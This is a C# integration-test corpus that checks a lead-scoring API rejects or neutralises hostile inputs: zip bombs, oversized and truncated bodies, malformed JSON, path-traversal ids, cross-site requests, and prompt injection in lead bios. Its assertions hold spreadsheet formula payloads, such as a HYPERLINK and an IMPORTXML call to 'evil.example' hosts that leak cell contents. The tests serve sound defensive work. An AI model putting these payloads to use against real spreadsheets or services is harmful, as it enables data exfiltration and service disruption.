using System.Text;
using System.Text.Json.Nodes;
using static LeadFunctions.IntegrationTests.Corpus.CorpusSend;

namespace LeadFunctions.IntegrationTests.Corpus;

/// <summary>
/// The bad-input corpus: each hostile input with the outcome the API owes it (docs/guarantees.md#bad-input: a clear 4xx or a rejected
/// row, never a 500, never lost data). Small files live in <c>Corpus/files</c>; big ones are generated while sent.
/// </summary>
public static class HostileInputs
{
    private const long TenMegabytes = 10L * 1024 * 1024;

    // Declared before All: static initialisers run in order.
    private const string UploadRoute = "/api/leads/upload?offer_id={offer}";
    private const string Boundary = "corpus-boundary";

    private static readonly byte[] TwoLeads = Encoding.UTF8.GetBytes(new LeadGenerator("Corpus").Csv(2));

    /// <summary>A form whose file part is never closed by a boundary line.</summary>
    private static readonly byte[] OpenMultipart = Encoding.UTF8.GetBytes(
        $"--{Boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"leads.csv\"\r\nContent-Type: text/csv\r\n\r\n{new LeadGenerator("Corpus").Csv(2)}");

    public static IReadOnlyList<HostileInput> All { get; } =
    [
        // Files that are no CSV at all: refused before anything is stored, or a failed batch that says why.
        new("binary garbage, uploaded", Upload(() => File("binary-garbage.csv")), new Expectation.Problem(400, "file")),
        new("binary garbage, dropped into storage", Drop(() => Open("binary-garbage.csv")), new Expectation.Batch("failed", 0, 0)),
        new("zip bomb named .csv, uploaded as a form", Upload(() => Multipart(File("zip-bomb.csv"))), new Expectation.Problem(400, "file")),
        new("zip bomb named .csv, dropped into storage", Drop(() => Open("zip-bomb.csv")), new Expectation.Batch("failed", 0, 0)),
        new("10 MB single line, uploaded", Upload(() => Generated(GeneratedBodies.SingleLine(TenMegabytes))), new Expectation.Problem(400, "file")),
        new("10 MB single line, dropped into storage", Drop(() => new LazyAsyncStream(GeneratedBodies.SingleLine(TenMegabytes))), new Expectation.Batch("failed", 0, 0)),
        new("10 MB single data line after a valid lead", Upload(() => Generated(GeneratedBodies.ValidRowThenSingleLine(TenMegabytes))), new Expectation.Batch("completed", 1, 1)),
        new("header of 1,000,000 columns, uploaded", Upload(() => Generated(GeneratedBodies.WideHeader(1_000_000))), new Expectation.Problem(400, "file")),
        new("header of 1,000,000 columns, dropped into storage", Drop(() => new LazyAsyncStream(GeneratedBodies.WideHeader(1_000_000))), new Expectation.Batch("failed", 0, 0)),
        new("invalid UTF-8 in the header", Upload(() => File("invalid-utf8-header.csv")), new Expectation.Problem(400, "file")),
        new("invalid UTF-8 in a row", Upload(() => File("invalid-utf8-row.csv")), new Expectation.Batch("completed", 1, 1)),
        new("only delimiters", Upload(() => File("only-delimiters.csv")), new Expectation.Problem(400, "missing_columns")),
        new("a header then only delimiters", Upload(() => File("header-then-only-delimiters.csv")), new Expectation.Problem(400, "file")),
        new("an empty body", Upload(() => Text("", "text/csv")), new Expectation.Problem(400, "file")),
        new("an upload over the size limit", Upload(() => Generated(GeneratedBodies.LeadsOfAtLeast(CorpusHost.MaxUploadBytes + TenMegabytes / 10))), new Expectation.Problem(413)),

        // Lead text that is hostile but legitimate data: stored exactly as written, harmless where it is shown.
        new("formula payloads in every field", Upload(() => File("formula-payloads.csv")),
            new Expectation.Batch("completed", 3, 0) { Then = FormulasAreKeptAndNeutralisedOnExportAsync }),
        new("full-width formula payloads, exported for Excel with a BOM", Upload(() => File("fullwidth-formulas.csv")),
            new Expectation.Batch("completed", 2, 0) { Then = FullWidthFormulasAreNeutralisedInTheBomExportAsync }),
        new("prompt injection in bios and names", Upload(() => File("prompt-injection.csv")),
            new Expectation.Batch("completed", 4, 0) { Then = InjectionDoesNotSteerTheAiAsync }),
        new("unicode names", Upload(() => File("unicode-names.csv")),
            new Expectation.Batch("completed", 7, 0, Duplicates: 1) { Then = UnicodeNamesRoundTripAsync }),

        // Bodies that lie about their length or end early. Kestrel gives a body that stops arriving 5 s of grace
        // (MinRequestBodyDataRate), then the read fails: that is the client's fault, a 408, not a 500.
        new("upload with Content-Length far beyond its body, client goes quiet", ShortBody(UploadRoute, "text/csv", TwoLeads, 15_000_000, closeAfterBody: false), new Expectation.Problem(408)),
        new("upload with Content-Length far beyond its body, client hangs up", ShortBody(UploadRoute, "text/csv", TwoLeads, 15_000_000, closeAfterBody: true), new Expectation.NoAnswer()),
        new("upload with Content-Length over the limit", ShortBody(UploadRoute, "text/csv", TwoLeads, 50L * 1024 * 1024 * 1024, closeAfterBody: false), new Expectation.Problem(413)),
        new("multipart upload with Content-Length far beyond its body, client goes quiet", ShortBody(UploadRoute, $"multipart/form-data; boundary={Boundary}", OpenMultipart, 15_000_000, closeAfterBody: false), new Expectation.Problem(408)),
        new("multipart upload without its closing boundary", Upload(() => Bytes(OpenMultipart, $"multipart/form-data; boundary={Boundary}")), new Expectation.Problem(400)),
        new("offer with Content-Length far beyond its body, client goes quiet", ShortBody("/api/offer", "application/json", "{\"name\": \"x\""u8.ToArray(), 10_000, closeAfterBody: false), new Expectation.Problem(408)),

        // Wrong content types.
        new("upload as application/json", Upload(() => Text("{\"name\":\"x\"}", "application/json")), new Expectation.Problem(415)),
        new("upload as image/png", Upload(() => File("binary-garbage.csv", "image/png")), new Expectation.Problem(415)),
        new("upload as a url-encoded form", Upload(() => Text("file=name%2Crole", "application/x-www-form-urlencoded")), new Expectation.Problem(415)),
        new("upload with an unparsable content type", Upload(() => WithRawContentType(File("formula-payloads.csv", null), "text/csv;;==;")), new Expectation.Problem(415)),
        new("multipart without a boundary", Upload(() => WithRawContentType(File("formula-payloads.csv", null), "multipart/form-data")), new Expectation.Problem(400)),
        new("multipart without a file field", Upload(() => Multipart(File("formula-payloads.csv"), field: "upload")), new Expectation.Problem(400)),
        new("offer as text/plain", Post("/api/offer", () => Text("{\"name\":\"x\"}", "text/plain")), new Expectation.Problem(415)),
        new("offer as application/xml", Post("/api/offer", () => Text("<offer><name>x</name></offer>", "application/xml")), new Expectation.Problem(415)),
        new("offer update as a url-encoded form", Put("/api/offer/{offer}", () => Text("name=x", "application/x-www-form-urlencoded")), new Expectation.Problem(415)),

        // Offer bodies over the documented bounds.
        new("offer with 21 value props", Post("/api/offer", () => Json(Offer(valueProps: Many(21, "prop")))), new Expectation.Problem(400, "value_props")),
        new("offer with 5,000 ideal use cases", Post("/api/offer", () => Json(Offer(useCases: Many(5_000, "u")))), new Expectation.Problem(400, "ideal_use_cases")),
        new("offer with a 201-character name", Post("/api/offer", () => Json(new JsonObject { ["name"] = new string('n', 201) })), new Expectation.Problem(400, "name")),
        new("offer with a 201-character use case", Post("/api/offer", () => Json(Offer(useCases: [new string('u', 201)]))), new Expectation.Problem(400, "ideal_use_cases[0]")),
        new("offer with 101 decision-maker titles", Post("/api/offer", () => Json(new JsonObject { ["name"] = "x", ["rules"] = new JsonObject { ["decision_maker_titles"] = Many(101, "t") } })),
            new Expectation.Problem(400, "rules.decision_maker_titles")),
        new("offer body of 1 MB", Post("/api/offer", () => Json(Offer(valueProps: Many(1, new string('p', 1024 * 1024))))), new Expectation.Problem(413)),

        // Malformed JSON.
        new("offer JSON cut short", Post("/api/offer", () => Text("{\"name\": \"x\", \"value_props\": [\"a\"", "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON with trailing garbage", Post("/api/offer", () => Text("{\"name\": \"x\"} {\"name\": \"y\"}", "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON as an array", Post("/api/offer", () => Text("[{\"name\": \"x\"}]", "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON as a string", Post("/api/offer", () => Text("\"x\"", "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON nested 10,000 deep", Post("/api/offer", () => Text(new string('[', 10_000) + new string(']', 10_000), "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON with invalid UTF-8", Post("/api/offer", () => Bytes([.. "{\"name\": \"caf"u8, 0xC3, 0x28, .. "\"}"u8], "application/json")), new Expectation.Problem(400, "body")),
        new("offer update JSON with invalid UTF-8 in a field name", Put("/api/offer/{offer}", () => Bytes([.. "{\"na"u8, 0xFF, .. "me\": \"x\"}"u8], "application/json")), new Expectation.Problem(400, "body")),
        new("score request with invalid UTF-8", Post("/api/leads/score", () => Bytes([.. "{\"offer_id\": \"a"u8, 0xC0, 0xAF, .. "\"}"u8], "application/json")), new Expectation.Problem(400, "body")),
        new("offer JSON with a number for a name", Post("/api/offer", () => Text("{\"name\": 5}", "application/json")), new Expectation.Problem(400, "name")),
        new("offer JSON with null list items", Post("/api/offer", () => Text("{\"name\": \"x\", \"value_props\": [null]}", "application/json")), new Expectation.Problem(400, "value_props[0]")),
        new("offer JSON with an unknown field", Post("/api/offer", () => Text("{\"name\": \"x\", \"__proto__\": {}}", "application/json")), new Expectation.Problem(400, "__proto__")),
        new("empty offer body", Post("/api/offer", () => Text("", "application/json")), new Expectation.Problem(400, "body")),
        new("score request that is not JSON", Post("/api/leads/score", () => Text("rescore please", "application/json")), new Expectation.Problem(400, "body")),
        new("score request with a string flag", Post("/api/leads/score", () => Text("{\"rescore\": \"yes\"}", "application/json")), new Expectation.Problem(400, "rescore")),
        new("score request with a path for a batch id", Post("/api/leads/score", () => Text("{\"batch_id\": \"../../batches\"}", "application/json")), new Expectation.Problem(400, "batch_id")),

        // Strings whose escapes do not decode to Unicode text (lone or reversed surrogates), in values and in names.
        new("offer with a lone high surrogate in the name", Post("/api/offer", () => Text("{\"name\": \"Acme \\ud800\"}", "application/json")), new Expectation.Problem(400, "name")),
        new("offer with a lone low surrogate in a list item", Post("/api/offer", () => Text("{\"name\": \"x\", \"value_props\": [\"ok\", \"\\udfff\"]}", "application/json")),
            new Expectation.Problem(400, "value_props[1]")),
        new("offer with a lone surrogate as a field name", Post("/api/offer", () => Text("{\"name\": \"x\", \"\\ud800\": 1}", "application/json")), new Expectation.Problem(400, "body")),
        new("offer update with a reversed surrogate pair in rules", Put("/api/offer/{offer}", () => Text("{\"name\": \"x\", \"rules\": {\"adjacent_industries\": [\"\\udc00\\ud800\"]}}", "application/json")),
            new Expectation.Problem(400, "rules.adjacent_industries[0]")),
        new("score request with a lone surrogate for an id", Post("/api/leads/score", () => Text("{\"offer_id\": \"\\ud800\"}", "application/json")), new Expectation.Problem(400, "offer_id")),

        // Within every typed limit, but larger than Table Storage takes once stored.
        new("offer with 20 value props of 500 accented letters", Post("/api/offer", () => Json(Offer(valueProps: Many(20, new string('\u00E9', 496))))), new Expectation.Problem(400, "value_props")),
        new("offer update with 100 rule titles of 100 angle brackets", Put("/api/offer/{offer}", () => Json(new JsonObject { ["name"] = "x", ["rules"] = new JsonObject { ["excluded_titles"] = Many(100, new string('<', 97)) } })),
            new Expectation.Problem(400, "rules")),
        new("16 leads too big to store in one transaction, and one that fits", Upload(() => Text(new LeadGenerator("Corpus").Csv(1) + TooBigToStoreRows(16), "text/csv")),
            new Expectation.Batch("completed", 1, 16)),

        // Hostile query strings and ids.
        new("results with a page_size beyond any integer", Get("/api/leads/results?page_size=99999999999999999999"), new Expectation.Problem(400, "page_size")),
        new("results with min_score 101", Get("/api/leads/results?min_score=101"), new Expectation.Problem(400, "min_score")),
        new("export with a negative min_score", Get("/api/leads/export_csv?min_score=-1"), new Expectation.Problem(400, "min_score")),
        new("results with an invalid percent-encoding", RawGet("/api/leads/results?offer_id=%ZZ&page_size=%"), new Expectation.Problem(400, "offer_id")),
        new("results with percent-encoded bytes that are not UTF-8", RawGet("/api/leads/results?offer_id=%FF%FE"), new Expectation.Problem(400, "offer_id")),
        new("results with an encoded lone surrogate as the cursor", RawGet("/api/leads/results?cursor=%ED%A0%80"), new Expectation.Problem(400, "cursor")),
        new("batches with an overlong UTF-8 slash for the offer", RawGet("/api/batches?offer_id=%C0%AF"), new Expectation.Problem(400, "offer_id")),
        new("a lead id of bytes that are not UTF-8", RawGet("/api/leads/%FF%FE"), new Expectation.Problem(404)),
        new("a batch id of an encoded NUL", RawGet("/api/batches/%00"), new Expectation.ServerRefusal(400)),
        new("a batch id of an encoded line break", RawGet("/api/batches/a%0D%0Ab"), new Expectation.Problem(404)),
        new("an offer id with an invalid percent-encoding", RawGet("/api/offer/%ZZ%"), new Expectation.Problem(404)),

        // What a web page could send cross-site without a CORS preflight.
        new("upload without a content type", Upload(() => File("formula-payloads.csv", null)), new Expectation.Problem(415)),
        new("upload as text/plain", Upload(() => File("formula-payloads.csv", "text/plain")), new Expectation.Problem(415)),
        new("offer without a content type", Post("/api/offer", () => Text("{\"name\":\"x\"}", null)), new Expectation.Problem(415)),
        new("score request as text/plain", Post("/api/leads/score", () => Text("{\"rescore\": true}", "text/plain")), new Expectation.Problem(415)),
        new("multipart upload posted from another site", Send(HttpMethod.Post, UploadRoute, () => Multipart(File("formula-payloads.csv")), ("Origin", "https://evil.example")),
            new Expectation.Problem(403)),
        new("offer posted by a cross-site page", Send(HttpMethod.Post, "/api/offer", () => Text("{\"name\":\"x\"}", "application/json"), ("Sec-Fetch-Site", "cross-site")),
            new Expectation.Problem(403)),
        new("offer deleted from a sandboxed page", Send(HttpMethod.Delete, "/api/offer/{offer}", () => null, ("Origin", "null")), new Expectation.Problem(403)),

        // Hostile query strings and ids, continued.
        new("results with page_size 0", Get("/api/leads/results?page_size=0"), new Expectation.Problem(400, "page_size")),
        new("results with a forged cursor", Get("/api/leads/results?cursor=eyJhIjoiYiJ9"), new Expectation.Problem(400, "cursor")),
        new("results with a negative min_score", Get("/api/leads/results?min_score=-5"), new Expectation.Problem(400, "min_score")),
        new("results with an unknown intent", Get("/api/leads/results?intent=Urgent"), new Expectation.Problem(400, "intent")),
        new("export with bom=maybe", Get("/api/leads/export_csv?bom=maybe"), new Expectation.Problem(400, "bom")),
        new("a lead id of 2,000 characters", Get("/api/leads/" + new string('a', 2000)), new Expectation.Problem(404)),
        new("a batch id with encoded slashes", Get("/api/batches/..%2F..%2Foffer"), new Expectation.Problem(404)),
    ];

    /// <summary>Rows whose six fields are each within the field limit but together take 144,000 bytes once stored (é is a 6-byte escape).</summary>
    private static string TooBigToStoreRows(int count) => string.Concat(Enumerable.Range(0, count).Select(i =>
        $"Big {i} {Field()},{Field()},Big {i} Ltd {Field()},{Field()},{Field()},{Field()}\n"));

    private static string Field() => new('\u00E9', LeadCsvLimits.MaxFieldChars - 10);

    private static Stream Open(string name) => System.IO.File.OpenRead(FilePath(name));

    private static HttpContent Json(JsonNode body) => Text(body.ToJsonString(), "application/json");

    private static JsonObject Offer(JsonArray? valueProps = null, JsonArray? useCases = null) => new()
    {
        ["name"] = "Hostile offer",
        ["value_props"] = valueProps ?? [],
        ["ideal_use_cases"] = useCases ?? [],
    };

    private static JsonArray Many(int count, string prefix) => [.. Enumerable.Range(0, count).Select(i => (JsonNode)$"{prefix}{i}")];

    private static HttpContent WithRawContentType(HttpContent content, string contentType)
    {
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return content;
    }

    private static async Task FormulasAreKeptAndNeutralisedOnExportAsync(CorpusContext context, SettledBatch batch)
    {
        // Stored and served exactly as written: the API is no spreadsheet.
        var stored = batch.Leads.Select(l => l["name"]!.GetValue<string>()).Order(StringComparer.Ordinal);
        Assert.Equal(["+1+1 Ava", "-2+3 Bob", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"], stored);
        Assert.Contains(batch.Leads, l => l["linkedin_bio"]!.GetValue<string>() == "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")");

        // Exported, no cell can run as a formula.
        var export = await context.Http.GetStringAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}");
        var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
        Assert.Equal(3 * 8, cells.Count);
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
        Assert.Contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", cells);
    }

    private static async Task FullWidthFormulasAreNeutralisedInTheBomExportAsync(CorpusContext context, SettledBatch batch)
    {
        var bytes = await context.Http.GetByteArrayAsync($"/api/leads/export_csv?batch_id={batch.Batch["batch_id"]}&bom=true");

        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "no UTF-8 BOM at the start of a bom=true export");
        var export = Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length));
        Assert.StartsWith("Name,Role,", export, StringComparison.Ordinal);
        var cells = export.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(SplitCells).ToList();
        Assert.Equal(2 * 8, cells.Count);
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && LeadCsvExportWriter.FormulaCharacters.Contains(cell[0]));
        Assert.Contains("'\uFF1DHYPERLINK(\"http://evil.example/?leak=\"&A1)", cells);
        Assert.Contains("Zo\u00EB \u00C5ngstr\u00F6m", cells);
    }

    private static Task InjectionDoesNotSteerTheAiAsync(CorpusContext context, SettledBatch batch)
    {
        // Every one is a data analyst in retail: the model judged the data, not the instructions in it.
        Assert.All(batch.Leads, lead =>
        {
            Assert.Equal("hybrid", lead["score_breakdown"]!["scoring_method"]!.GetValue<string>());
            Assert.Equal("Low", lead["score_breakdown"]!["ai_intent"]!.GetValue<string>());
            Assert.NotEqual("High", lead["intent"]!.GetValue<string>());
        });
        return Task.CompletedTask;
    }

    private static Task UnicodeNamesRoundTripAsync(CorpusContext context, SettledBatch batch)
    {
        var expected = System.IO.File.ReadAllLines(FilePath("unicode-names.csv"), Encoding.UTF8).Skip(1)
            .Select(line => line.Split(',')[0])
            .Where(name => !name.StartsWith("Jose\u0301", StringComparison.Ordinal));
        Assert.Equal(expected.Order(StringComparer.Ordinal), batch.Leads.Select(l => l["name"]!.GetValue<string>()).Order(StringComparer.Ordinal));
        return Task.CompletedTask;
    }

    /// <summary>The cells of one exported CSV line (RFC 4180 quoting; the export has no line breaks inside cells).</summary>
    private static IEnumerable<string> SplitCells(string line)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"')
            {
                cell.Append('"');
                i++;
            }
            else if (c == '"')
            {
                quoted = !quoted;
            }
            else if (c == ',' && !quoted)
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        yield return cell.ToString();
    }
}
